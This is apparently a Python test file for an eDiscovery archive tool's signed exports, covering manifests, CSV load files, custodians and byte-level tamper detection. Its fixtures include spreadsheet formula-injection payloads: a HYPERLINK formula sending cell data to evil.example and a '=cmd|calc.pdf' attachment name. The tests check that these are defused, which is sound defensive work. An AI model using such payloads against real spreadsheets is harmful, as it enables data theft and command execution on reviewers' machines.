"""eDiscovery exports: `mailark export` writes what a query finds with a manifest, proofs and a signed
checkpoint; `mailark verify-export` and an independent verifier in Python (tlog.verify_export: RFC
9162, C2SP signed notes, zipfile, python3-cryptography) check them without the archive, and a changed
byte anywhere in an entry's name or contents is caught."""
import json
import os
import shutil
import subprocess
import tempfile
import unittest
import zipfile

import tlog
from harness import BIN

SOURCE = os.environ.get("MAILARK_SOURCE_DIR", os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", ".."))
DEMO = os.path.join(SOURCE, "demo", "mailbox.mbox")

# Messages whose bodies have lines an mbox must quote, and one that does not end with a newline.
TRICKY = [
    b"From: ana@partner.example\r\nTo: ben@northwind.example\r\nSubject: quoting one\r\n"
    b"Message-ID: <quote-1@partner.example>\r\n\r\nFrom the start of a line.\r\n>From quoted once.\r\n"
    b">>From quoted twice.\r\nNot From here.\r\n",
    b"From: ana@partner.example\nTo: ben@northwind.example\nSubject: quoting two\n"
    b"Message-ID: <quote-2@partner.example>\n\nFrom here to there\n>From\nFrom",
]

# What a load file must carry safely to a spreadsheet: a subject and an attachment name a spreadsheet
# would run as formulas, a display name with a comma and quotes, and raw bytes that are not UTF-8.
HOSTILE = [
    b'From: "Doe, \\"Jane\\"" <jane@partner.example>\r\nTo: ben@northwind.example\r\n'
    b'Subject: =HYPERLINK("http://evil.example/?"&A1,"click")\r\nMessage-ID: <hostile-1@partner.example>\r\n'
    b'Date: Tue, 3 Mar 2026 08:15:00 +0100\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n'
    b'\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n--b\r\nContent-Type: application/pdf\r\n'
    b'Content-Disposition: attachment; filename="=cmd|calc.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
    b'JVBERi0xLjQK\r\n--b--\r\n',
    b'From: ana@partner.example\r\nTo: ben@northwind.example\r\nSubject: caf\xe9 \xff\xfe, "quoted"\r\n'
    b'Message-ID: <raw8@partner.example>\r\n\r\nbody\r\n',
]


def sign_note(text, name, seed_hex):
    """A C2SP signed note of `text` (bytes ending in a newline) by the Ed25519 key with this seed."""
    import base64
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
    from cryptography.hazmat.primitives import serialization
    key = Ed25519PrivateKey.from_private_bytes(bytes.fromhex(seed_hex))
    pub = key.public_key().public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
    key_id = tlog.sha256(name.encode() + b"\n" + b"\x01" + pub)[:4]
    sig = base64.b64encode(key_id + key.sign(text)).decode()
    return text + f"\n\u2014 {name} {sig}\n".encode()


def rewrite_and_reseal(path, out, change, seed_hex):
    """The export at `path` written again to `out`, each entry's bytes through change(name, data), and
    sealed again with the archive's own key (the seal: the zip comment, a signed note over the SHA-256
    of every byte before it): what someone holding the key could make."""
    with zipfile.ZipFile(path) as z:
        entries = [(i.filename, change(i.filename, z.read(i.filename))) for i in z.infolist()]
        origin = z.comment.decode().split("\n")[1]  # the seal's text: context, origin, hash
    stand_in = sign_note(f"mailark.export-zip/v1\n{origin}\n{'0' * 64}\n".encode(), origin, seed_hex)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        for name, data in entries:
            z.writestr(name, data)
        z.comment = stand_in
    with open(out, "rb") as f:
        whole = f.read()
    sealed = whole[:len(whole) - len(stand_in)]
    seal = sign_note(f"mailark.export-zip/v1\n{origin}\n{tlog.sha256(sealed).hex()}\n".encode(), origin, seed_hex)
    assert len(seal) == len(stand_in)
    with open(out, "wb") as f:
        f.write(sealed + seal)


class ExportTest(unittest.TestCase):
    def setUp(self):
        self.tmp = tempfile.mkdtemp(prefix="mailark-export-")
        self.addCleanup(shutil.rmtree, self.tmp, True)
        self.data = os.path.join(self.tmp, "data")
        self.run_cli("import", DEMO, "--custodian", "Ana Ortega")
        for i, raw in enumerate(TRICKY):
            path = os.path.join(self.tmp, f"tricky{i}.eml")
            with open(path, "wb") as f:
                f.write(raw)
            self.run_cli("import", path, "--custodian", "ben@northwind.example")
        self.vkey = self.run_cli("checkpoint", "key").stdout.decode().strip()

    def run_cli(self, *args, ok=True):
        p = subprocess.run([BIN, "--data", self.data, *args], capture_output=True, timeout=120)
        if ok:
            self.assertEqual(p.returncode, 0, f"mailark {' '.join(args)}: {p.stderr.decode()}")
        return p

    def export(self, query, name, fmt="eml"):
        path = os.path.join(self.tmp, name)
        out = json.loads(self.run_cli("export", query, "--out", path, "--format", fmt, "--case", "Acme v. Northwind",
                                      "--json").stdout)
        return path, out

    def verify(self, path, key=None):
        p = self.run_cli("verify-export", path, "--key", key or self.vkey, "--json", ok=False)
        return p.returncode, json.loads(p.stdout) if p.stdout else {"problem": p.stderr.decode()}

    def assert_flips_caught(self, original, positions, what):
        """Each position's low bit flipped in turn: verify-export says the export does not check (exit
        1) and tlog.verify_export raises."""
        bent_path = os.path.join(self.tmp, "bent.zip")
        for pos in positions:
            bent = bytearray(original)
            bent[pos] ^= 0x01
            with open(bent_path, "wb") as f:
                f.write(bent)
            rc, rep = self.verify(bent_path)
            self.assertEqual(rc, 1, f"{what}: the byte at {pos} changed and verify-export said {rep}")
            with self.assertRaises(Exception, msg=f"{what}: byte {pos}"):
                tlog.verify_export(bent_path, self.vkey)

    def test_eml_and_mbox_exports_check_with_both_verifiers(self):
        for fmt in ("eml", "mbox"):
            path, out = self.export("", f"all.{fmt}.zip", fmt)
            self.assertEqual(out["messages"], 12)
            rc, rep = self.verify(path)
            self.assertEqual(rc, 0, rep)
            self.assertTrue(rep["ok"])
            self.assertEqual(rep["messages"], 12)
            self.assertEqual(rep["case"], "Acme v. Northwind")
            self.assertFalse(rep["key_from_export"])
            self.assertEqual(tlog.verify_export(path, self.vkey), 12)
            with zipfile.ZipFile(path) as z:
                lines = [json.loads(x) for x in z.read("manifest.jsonl").decode().splitlines()]
                if fmt == "eml":
                    # Every message file is the archive's exact bytes.
                    for m in lines[1:]:
                        raw = self.run_cli("show", str(m["id"]), "--raw").stdout
                        self.assertEqual(z.read(m["file"]), raw, m["id"])
                else:
                    mbox = z.read("messages.mbox")
                    self.assertIn(b"\n>From the start of a line.", mbox)
                    self.assertIn(b"\n>>From quoted once.", mbox)
                    self.assertIn(b"\n>>>From quoted twice.", mbox)
            header, entries = lines[0], lines[1:]
            self.assertEqual(header["query"], "")
            self.assertEqual([m["id"] for m in entries], list(range(1, 13)))
            by_subject = {m["message_id"]: m for m in entries}
            self.assertIn("quote-2@partner.example", by_subject)
            # Each line names its own message's Message-ID (asked of the index a batch at a time).
            found = json.loads(self.run_cli("search", "", "--json", "--limit", "50").stdout)["results"]
            self.assertEqual({m["id"]: m["message_id"] for m in entries}, {r["id"]: r["message_id"] for r in found})
            infected = [m for m in entries if m["verdict"]["kind"] == "infected"]
            self.assertEqual(len(infected), 1, "the demo mailbox has one EICAR message")
            self.assertEqual([m["custodians"] for m in entries], [["Ana Ortega"]] * 10 + [["ben@northwind.example"]] * 2)
            self.assertTrue(all(m["copies"] == [] for m in entries))

    def test_every_custodians_copy_is_listed_and_proved(self):
        # A second mailbox holds the demo's ten messages too: ten more records over the same bytes.
        out = json.loads(self.run_cli("import", DEMO, "--custodian", "Legal Copy", "--json").stdout)
        self.assertEqual((out["imported"], out["duplicates"]), (10, 0))
        found = json.loads(self.run_cli("search", "", "--json").stdout)
        self.assertEqual(found["total"], 12, "one hit a message, however many hold it")
        mine = json.loads(self.run_cli("search", 'custodian:"legal copy"', "--json", "--limit", "50").stdout)
        self.assertEqual(sorted(r["id"] for r in mine["results"]), list(range(13, 23)))
        show = json.loads(self.run_cli("show", "1", "--json").stdout)
        self.assertEqual([(c["id"], c["custodians"]) for c in show["copies"]], [(1, ["Ana Ortega"]), (13, ["Legal Copy"])])
        for fmt in ("eml", "mbox"):
            path, out = self.export("", f"copies.{fmt}.zip", fmt)
            self.assertEqual(out["messages"], 12)
            self.assertEqual(self.verify(path)[0], 0)
            self.assertEqual(tlog.verify_export(path, self.vkey), 12)
            with zipfile.ZipFile(path) as z:
                entries = [json.loads(x) for x in z.read("manifest.jsonl").decode().splitlines()[1:]]
            demo = [m for m in entries if m["custodians"] != ["ben@northwind.example"]]
            self.assertEqual(len(demo), 10)
            for m in demo:
                self.assertEqual(m["custodians"], ["Ana Ortega", "Legal Copy"], m["id"])
                self.assertEqual([c["custodians"] for c in m["copies"]], [["Legal Copy"] if m["id"] <= 10 else ["Ana Ortega"]])
                self.assertEqual(m["copies"][0]["envelope"]["custodian"], m["copies"][0]["custodians"][0])
        # The copies are proved like the records they stand beside: a changed byte in one is caught.
        with open(path, "rb") as f:
            original = f.read()
        at = original.index(b'"custodian":"Legal Copy"')
        record_at = original.index(b'"record":"', at) + 12
        self.assert_flips_caught(original, [at + 14, record_at, record_at + 40], "a copy")
        # Asked for one custodian's copies, the export still names everyone who held each message.
        path, out = self.export('custodian:"legal copy"', "legal.zip")
        self.assertEqual(out["messages"], 10)
        self.assertEqual(tlog.verify_export(path, self.vkey), 10)

    def test_custodian_per_folder_loads_many_mailboxes_at_once(self):
        # One folder per custodian (as the Enron corpus is laid out): the same message in alice's
        # Maildir inbox and twice in bob's folders is two records, alice's and bob's, each with the
        # folder it was found in; a file directly inside the root belongs to nobody.
        root = os.path.join(self.tmp, "mailboxes")
        raw = (b"From: ana@partner.example\r\nTo: alice@northwind.example, bob@northwind.example\r\n"
               b"Subject: shared plan\r\nMessage-ID: <shared-plan@partner.example>\r\n\r\nthe shared plan\r\n")
        for rel in ("alice/inbox/cur/1.eml", "bob/projects/acme/2.eml", "bob/sent/1.eml"):
            os.makedirs(os.path.dirname(os.path.join(root, rel)), exist_ok=True)
            with open(os.path.join(root, rel), "wb") as f:
                f.write(raw)
        with open(os.path.join(root, "loose.eml"), "wb") as f:
            f.write(b"From: x@partner.example\r\nSubject: loose\r\nMessage-ID: <loose@partner.example>\r\n\r\nloose\r\n")
        out = json.loads(self.run_cli("import", "--custodian-per-folder", root, "--json").stdout)
        self.assertEqual((out["imported"], out["duplicates"]), (3, 1), out)
        hits = json.loads(self.run_cli("search", "id:shared-plan@partner.example", "--json").stdout)
        self.assertEqual(hits["total"], 1)
        show = json.loads(self.run_cli("show", str(hits["results"][0]["id"]), "--json").stdout)
        copies = {c["custodians"][0]: c["folder"] for c in show["copies"]}
        self.assertEqual(set(copies), {"alice", "bob"})
        self.assertEqual(copies["alice"], "inbox", "a Maildir's cur/new is not part of the folder")
        self.assertIn(copies["bob"], ("projects/acme", "sent"), "bob's first copy found")
        loose = json.loads(self.run_cli("search", "id:loose@partner.example", "--json").stdout)["results"][0]
        self.assertNotIn("custodian", json.loads(self.run_cli("show", str(loose["id"]), "--json").stdout)["envelope"])
        p = self.run_cli("import", "--custodian", "x", "--custodian-per-folder", root, ok=False)
        self.assertEqual(p.returncode, 2, "the two ways of naming custodians exclude each other")
        for bad in ("x" * 201, "two\nlines", "tab\there", "   "):
            p = self.run_cli("import", "--custodian", bad, root, ok=False)
            self.assertEqual(p.returncode, 2, repr(bad))
            self.assertIn(b"--custodian", p.stderr)

    def test_a_query_exports_what_it_finds_and_nothing_else(self):
        found = json.loads(self.run_cli("search", '"quoted once"', "--exact", "--json").stdout)
        path, out = self.export('"quoted once"', "phrase.zip")
        self.assertEqual(out["messages"], found["total"])
        self.assertEqual(out["messages"], 1)
        self.assertEqual(tlog.verify_export(path, self.vkey), 1)
        path, out = self.export("nothingmatchesthis", "none.zip")
        self.assertEqual(out["messages"], 0)
        rc, rep = self.verify(path)
        self.assertEqual(rc, 0, rep)
        self.assertEqual(tlog.verify_export(path, self.vkey), 0)

    def test_another_key_is_refused(self):
        path, _ = self.export("", "all.zip")
        other = os.path.join(self.tmp, "other")
        subprocess.run([BIN, "--data", other, "import", DEMO], capture_output=True, check=True, timeout=120)
        other_key = subprocess.run([BIN, "--data", other, "checkpoint", "key"], capture_output=True, check=True,
                                   timeout=60).stdout.decode().strip()
        rc, rep = self.verify(path, other_key)
        self.assertEqual(rc, 1)
        self.assertIn("signature does not check", rep["problem"])
        with self.assertRaises(ValueError):
            tlog.verify_export(path, other_key)

    def test_the_load_file_reads_in_a_csv_reader_and_says_what_the_manifest_says(self):
        for i, raw in enumerate(HOSTILE):
            path = os.path.join(self.tmp, f"hostile{i}.eml")
            with open(path, "wb") as f:
                f.write(raw)
            self.run_cli("import", path, "--custodian", "ben@northwind.example")
        for fmt in ("eml", "mbox"):
            path, out = self.export("", f"load.{fmt}.zip", fmt)
            self.assertEqual(out["messages"], 14)
            rc, rep = self.verify(path)
            self.assertEqual(rc, 0, rep)
            self.assertTrue(rep["load_file"], rep)
            self.assertEqual(tlog.verify_export(path, self.vkey), 14)
            with zipfile.ZipFile(path) as z:
                self.assertEqual(z.namelist()[:4], ["checkpoint", "manifest.jsonl", "manifest.sig", "loadfile.csv"])
                data = z.read("loadfile.csv")
                lines = [json.loads(x) for x in z.read("manifest.jsonl").decode().splitlines()]
            self.assertEqual(lines[0]["format"], "mailark-export-v3")
            entries = lines[1:]
            rows = tlog.load_file_rows(data)  # strict RFC 4180, UTF-8, one line a row
            self.assertEqual(rows[0], tlog.LOAD_FILE_COLUMNS)
            self.assertEqual(data.count(b"\r\n"), 15)
            by_id = {r[0]: dict(zip(rows[0], r)) for r in rows[1:]}
            self.assertEqual(list(by_id), [str(m["id"]) for m in entries])
            first = by_id["1"]  # the demo's first message: one attachment
            self.assertEqual((first["Subject"], first["AttachmentCount"], first["AttachmentNames"]),
                             ("Quarterly shipping forecast", "1", "forecast-q2.csv"))
            self.assertEqual(first["DateSent"], "2026-03-02T09:00:00Z")
            self.assertEqual(first["Custodians"], "Ana Ortega")
            self.assertIn("Chloé Dubois <chloe.dubois@northwind.example>", first["To"])
            self.assertEqual(first["NativeFile"], "messages/0000000001.eml" if fmt == "eml" else "messages.mbox")
            infected = [r for r in by_id.values() if r["Verdict"] == "infected"]
            self.assertEqual(len(infected), 1)
            self.assertTrue(infected[0]["VerdictDetail"])  # the signature's name
            hostile = next(r for r in by_id.values() if r["MessageID"] == "hostile-1@partner.example")
            # What a spreadsheet would run is shown as text; the rest of the cell as it was.
            self.assertEqual(hostile["Subject"], '\'=HYPERLINK("http://evil.example/?"&A1,"click")')
            self.assertEqual(hostile["AttachmentNames"], "'=cmd|calc.pdf")
            # A display name with a comma is quoted, as RFC 5322 writes it: the list reads back unambiguously.
            self.assertEqual(hostile["From"], '"Doe, \\"Jane\\"" <jane@partner.example>')
            self.assertEqual(hostile["DateSent"], "2026-03-03T07:15:00Z")
            raw8 = next(r for r in by_id.values() if r["MessageID"] == "raw8@partner.example")
            self.assertTrue(raw8["Subject"].startswith("caf"), raw8)
            self.assertTrue(raw8["Subject"].endswith(', "quoted"'), raw8)
            if fmt == "mbox":
                self.assertEqual([r["MboxOffset"] for r in by_id.values()], [str(m["mbox_offset"]) for m in entries])

    def test_a_load_file_that_differs_from_the_manifest_does_not_check_even_resealed(self):
        path, _ = self.export("", "seal.zip")
        with open(os.path.join(self.data, "checkpoint.key")) as f:
            seed = f.read().strip()
        # Rewritten and sealed again unchanged, it still checks (the rewriting itself is sound) ...
        same = os.path.join(self.tmp, "same.zip")
        rewrite_and_reseal(path, same, lambda name, data: data, seed)
        self.assertEqual(self.verify(same)[0], 0)
        self.assertEqual(tlog.verify_export(same, self.vkey), 12)
        # ... but one message's SHA-256 in the load file made another's, or a row dropped, does not.
        with zipfile.ZipFile(path) as z:
            rows = z.read("loadfile.csv").split(b"\r\n")
        a, b = rows[1].split(b'","'), rows[2].split(b'","')
        sha = tlog.LOAD_FILE_COLUMNS.index("SHA256")
        a[sha] = b[sha]
        cases = {"swapped": (b"\r\n".join([rows[0], b'","'.join(a)] + rows[2:]), "SHA256 of message 1"),
                 "dropped": (b"\r\n".join(rows[:2] + rows[3:]), "DocID of message 2")}
        for what, (changed, problem) in cases.items():
            bent = os.path.join(self.tmp, f"{what}.zip")
            rewrite_and_reseal(path, bent, lambda name, data: changed if name == "loadfile.csv" else data, seed)
            rc, rep = self.verify(bent)
            self.assertEqual(rc, 1, f"{what}: {rep}")
            self.assertIn("loadfile.csv", rep["problem"])
            self.assertIn(problem, rep["problem"])
            with self.assertRaises(ValueError, msg=what):
                tlog.verify_export(bent, self.vkey)

    def test_a_changed_byte_in_any_entry_is_caught(self):
        for fmt in ("eml", "mbox"):
            path, _ = self.export("", f"bytes.{fmt}.zip", fmt)
            with open(path, "rb") as f:
                original = f.read()
            with zipfile.ZipFile(path) as z:
                infos = z.infolist()
                comment = len(z.comment)
            # Where each entry's name and data are in the file (stored entries: the data follows the
            # local header, 30 bytes, the name and the extra field).
            regions = []
            for info in infos:
                name_at = info.header_offset + 30
                extra_len = int.from_bytes(original[info.header_offset + 28:info.header_offset + 30], "little")
                data_at = name_at + len(info.filename) + extra_len
                regions.append((info.filename, name_at, len(info.filename)))
                regions.append((info.filename, data_at, info.compress_size))
            # And the seal itself (the zip comment, the file's last bytes).
            regions.append(("comment", len(original) - comment, comment))
            positions = set()
            for name, start, length in regions:
                if length == 0:
                    continue
                positions.update({start, start + length - 1, start + length // 2})
                positions.update(range(start, start + length, max(1, length // 6)))
            self.assert_flips_caught(original, sorted(positions), fmt)

    def test_a_changed_byte_in_the_zips_own_records_or_a_damaged_zip_is_caught(self):
        path, _ = self.export("", "cd.zip")
        with open(path, "rb") as f:
            original = f.read()
        with zipfile.ZipFile(path) as z:
            start = z.start_dir  # the central directory: what unzip reads names and places from
        # Even a byte no zip reader uses (a time, an attribute) is sealed.
        self.assert_flips_caught(original, range(start, len(original), max(1, (len(original) - start) // 40)),
                                 f"central directory at {start}")
        for name, data in (("truncated.zip", original[:len(original) // 2]), ("garbage.zip", b"not a zip at all\n")):
            bad = os.path.join(self.tmp, name)
            with open(bad, "wb") as f:
                f.write(data)
            rc, rep = self.verify(bad)
            self.assertEqual(rc, 1, rep)
            self.assertIn("not a readable zip", rep["problem"])


if __name__ == "__main__":
    unittest.main()
